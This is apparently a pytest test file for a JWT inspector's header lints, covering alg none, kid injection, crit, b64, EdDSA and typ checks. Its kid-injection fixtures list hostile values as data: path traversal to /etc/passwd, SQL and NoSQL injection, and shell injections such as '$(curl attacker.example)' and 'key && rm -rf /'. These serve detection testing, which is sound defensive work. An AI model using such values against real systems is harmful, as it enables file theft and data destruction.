"""Header lints (RFC 8725): alg none, kid injection, crit, b64, EdDSA, typ."""

from __future__ import annotations

import pytest

from inspector.core import inspect_token
from inspector.core.lints import header_lints
from tests.core.tokens import (
    CLEAN_CLAIMS,
    CLEAN_HEADER,
    CLEAN_NOW,
    b64,
    clean_token,
    segment,
)

LINT_IDS = {
    "alg-none",
    "kid-injection",
    "crit-header",
    "b64-false",
    "deprecated-alg-name",
    "typ-mismatch",
}


def lint_ids(header, claims=None, signature=b"\x01" * 32):
    tok = f"{segment(header)}.{segment(claims or CLEAN_CLAIMS)}.{b64(signature)}"
    found = inspect_token(tok, now=CLEAN_NOW, check_weak_secrets=False).findings
    return [f for f in found if f.id in LINT_IDS]


def one(header, fid, claims=None):
    got = [f for f in lint_ids(header, claims) if f.id == fid]
    assert len(got) == 1, got
    return got[0]


def test_clean_token_has_no_lint():
    found = inspect_token(clean_token(), now=CLEAN_NOW).findings
    assert not [f for f in found if f.id in LINT_IDS]


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE"])
def test_alg_none_in_any_case(alg):
    tok = f"{segment({'alg': alg, 'typ': 'JWT'})}.{segment(CLEAN_CLAIMS)}."
    (f,) = [f for f in inspect_token(tok, now=CLEAN_NOW).findings if f.id == "alg-none"]
    assert f.severity == "critical"
    assert f.location == "/header/alg"


def test_alg_none_with_a_signature_is_still_alg_none():
    assert one({"alg": "none"}, "alg-none")


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../../../dev/null",
        "....//....//etc/passwd",
        "..",
        "keys/..%2f..%2fsecret",
        "..\\..\\keys\\hmac.key",
        "/dev/null",
        "/etc/passwd",
        "/proc/self/environ",
        "keys/%2e%2e/%2e%2e/secret",
        "key\x00.pem",
        "x' UNION SELECT 'secret' --",
        "1' OR '1'='1",
        "0 union select 'aaa'",
        "k1; DROP TABLE keys",
        "key1 OR 1=1",
        "key|cat /etc/passwd",
        "$(curl attacker.example)",
        "`id`",
        "key && rm -rf /",
        "key > /tmp/x",
    ],
)
def test_kid_injection(kid):
    f = one({**CLEAN_HEADER, "kid": kid}, "kid-injection")
    assert f.location == "/header/kid"
    assert f.severity == "high"


@pytest.mark.parametrize(
    "kid",
    [
        "nOo3ZDrODXEK1jKWhXslHR_KXEg",
        "0f8fad5b-d9cb-469f-a165-70867728950e",
        "2023-11-rotation",
        "abc+def/ghi=",
        "c4b0f2e8a1d34b5e9f67a8b9c0d1e2f3",
        "key-2024_01",
        "https://keys.example.com/jwks/1",
        "projects/p/locations/global/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1",
        "alias/prod-signing",
        7,
    ],
)
def test_ordinary_kids(kid):
    assert not [f for f in lint_ids({**CLEAN_HEADER, "kid": kid}) if f.id == "kid-injection"]


@pytest.mark.parametrize(
    ("crit", "extra", "words"),
    [
        (["exp"], {"exp": 1}, "must reject"),  # an extension the inspector does not know
        (["https://example.com/ext"], {"https://example.com/ext": True}, "must reject"),
        ("b64", {"b64": True}, "array"),
        ([], {}, "empty"),
        (["alg"], {}, "must not name"),
        (["kid"], {"kid": "k"}, "must not name"),
        (["missing"], {}, "has no"),
        ([1], {}, "not a name"),
    ],
)
def test_crit_header(crit, extra, words):
    found = [f for f in lint_ids({**CLEAN_HEADER, **extra, "crit": crit}) if f.id == "crit-header"]
    assert found
    assert all(f.location == "/header/crit" for f in found)
    assert any(words in f.detail for f in found)


def test_crit_b64_is_understood():
    header = {"alg": "HS256", "b64": False, "crit": ["b64"]}
    got = {f.id for f in lint_ids(header)}
    assert "crit-header" not in got
    assert "b64-false" in got


def test_b64_false_without_crit_says_so():
    f = one({"alg": "HS256", "b64": False}, "b64-false")
    assert "not listed in 'crit'" in f.detail
    assert f.severity == "medium"


def test_b64_true_is_fine():
    assert not lint_ids({"alg": "HS256", "b64": True})


def test_eddsa_is_deprecated():
    f = one({"alg": "EdDSA", "typ": "JWT"}, "deprecated-alg-name")
    assert f.severity == "info"
    assert "Ed25519" in f.detail
    assert not lint_ids({"alg": "Ed25519", "typ": "JWT"})


AT_CLAIMS = {
    "iss": "https://auth.example.com/",
    "sub": "user-4711",
    "aud": "https://api.example.com",
    "exp": 1_800_000_900,
    "iat": 1_800_000_000,
    "jti": "at-1",
    "client_id": "web-app",
    "scope": "orders:read",
}


@pytest.mark.parametrize("typ", ["JWT", "jwt", "application/jwt", "JOSE", "dpop+jwt"])
def test_ordinary_typ(typ):
    claims = {**CLEAN_CLAIMS, "htm": "GET", "htu": "https://x"}
    assert not [f for f in lint_ids({"alg": "HS256", "typ": typ}, claims)]


def test_at_jwt_on_an_access_token_fits():
    assert not lint_ids({"alg": "HS256", "typ": "at+jwt"}, AT_CLAIMS)
    assert not lint_ids({"alg": "HS256", "typ": "application/at+jwt"}, AT_CLAIMS)


def test_at_jwt_on_an_id_token_does_not_fit():
    id_token = {"iss": "i", "sub": "s", "aud": "a", "exp": 1_800_000_900, "iat": 1, "nonce": "n"}
    f = one({"alg": "HS256", "typ": "at+jwt"}, "typ-mismatch", id_token)
    assert "client_id" in f.detail
    assert f.severity == "info"


@pytest.mark.parametrize("typ", ["foo", "text/plain", 42, "JWTT"])
def test_unknown_typ(typ):
    assert one({"alg": "HS256", "typ": typ}, "typ-mismatch")


def test_secevent_without_events():
    assert one({"alg": "HS256", "typ": "secevent+jwt"}, "typ-mismatch")
    assert not lint_ids({"alg": "HS256", "typ": "secevent+jwt"}, {**CLEAN_CLAIMS, "events": {}})


def test_header_lints_directly():
    out = header_lints({"alg": "none", "kid": "/dev/null", "crit": []}, None)
    assert [f.id for f in out] == ["alg-none", "kid-injection", "crit-header"]


def test_lints_run_on_jwe_headers_too():
    header = {"alg": "RSA-OAEP", "enc": "A256GCM", "kid": "../../x", "crit": ["zip"]}
    tok = ".".join([segment(header), b64(b"k" * 16), b64(b"i" * 12), b64(b"c" * 8), b64(b"t" * 16)])
    got = {f.id for f in inspect_token(tok, now=CLEAN_NOW).findings}
    assert {"kid-injection", "crit-header"} <= got


def test_remembered_header_lints_are_each_tokens_own() -> None:
    from inspector.core import analysis
    from inspector.core.parsing import parse_token
    from tests.core.tokens import hs256

    headers: list[dict[str, object]] = [
        {"alg": "HS256", "typ": "JWT"},
        {"alg": "HS256"},
        {"alg": "HS256", "typ": None},
        {"alg": "HS256", "typ": "jwt"},
        {"alg": "HS256", "typ": "at+jwt"},
        {"alg": "HS256", "typ": "application/at+jwt"},
        {"alg": "HS256", "typ": "logout+jwt"},
        {"alg": "HS256", "typ": "JWT", "kid": "../../etc/passwd"},
        {"alg": "none", "typ": "JWT", "kid": {"$ne": ""}},
    ]
    at_claims = {c: "x" for c in ("iss", "exp", "aud", "sub", "client_id", "iat", "jti")}
    claim_sets: list[dict[str, object]] = [{}, {"events": {}}, at_claims, {"sub": "s"}]
    remembered = 0
    for header in headers:
        for claims in claim_sets:
            parsed = parse_token(hs256(header, claims))
            assert parsed.unverified_header is not None
            own = header_lints(parsed.unverified_header, parsed.claims)
            for _ in range(2):  # worked out, then (where it may be) remembered
                assert analysis._lints_of(parsed, parsed.unverified_header) == own
            remembered += parsed.header_bytes in analysis._LINTED
    # typ 'JWT', none and null are remembered (their lints read no claim); typ strings are not
    assert remembered == 5 * len(claim_sets)
    typed = parse_token(hs256({"alg": "HS256", "typ": "at+jwt"}, {}))
    assert typed.header_bytes not in analysis._LINTED
    assert [f.id for f in analysis._lints_of(typed, typed.unverified_header)] == ["typ-mismatch"]
